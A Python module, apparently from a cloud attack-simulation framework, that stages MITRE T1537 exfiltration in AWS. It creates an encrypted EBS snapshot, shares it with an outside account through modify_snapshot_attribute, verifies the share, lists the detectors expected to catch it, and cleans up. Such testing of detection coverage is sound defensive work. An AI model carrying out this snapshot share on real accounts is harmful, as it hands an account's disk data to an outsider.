"""Share a volume's snapshot with a foreign account, where its disk is read at leisure."""

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="A volume's snapshot is shared with a stranger",
    mitre=("T1537",),
    tactic="exfiltration",
    detectors=(
        "IAM Access Analyzer: external access to a snapshot",
        "GuardDuty Exfiltration:IAMUser/AnomalousBehavior",
    ),
    expected=Recorded(
        "snapshot-image-public-share denies sharing with the world; sharing with single accounts stays ordinary work",
        would="snapshot-image-public-share with ec2:Add/userId",
    ),
    source='Amazon EBS User Guide, "Share an Amazon EBS snapshot with other AWS accounts"',
)


def prepare(stage: Stage) -> Scene:
    """A snapshot under a key of the account's own, as sharing asks for."""
    ec2, key = stage.owner().client("ec2"), scenery.key(stage)
    zone = f"{stage.home}a"
    volume = ec2.create_volume(AvailabilityZone=zone, Size=1, Encrypted=True, KmsKeyId=key)["VolumeId"]
    return {"key": key, "volume": volume, "snapshot": ec2.create_snapshot(VolumeId=volume)["SnapshotId"]}


def attack(stage: Stage, scene: Scene) -> None:
    """Share it."""
    stage.attacker().client("ec2").modify_snapshot_attribute(
        SnapshotId=scene["snapshot"],
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[stage.outsider],
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The stranger may make a volume of it."""
    found = (
        stage.owner()
        .client("ec2")
        .describe_snapshot_attribute(SnapshotId=scene["snapshot"], Attribute="createVolumePermission")
    )
    return stage.outsider in [one.get("UserId") for one in found["CreateVolumePermissions"]]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete snapshot, volume and key."""
    ec2 = stage.owner().client("ec2")
    ec2.delete_snapshot(SnapshotId=scene["snapshot"])
    ec2.delete_volume(VolumeId=scene["volume"])
    scenery.drop_key(stage, scene["key"])
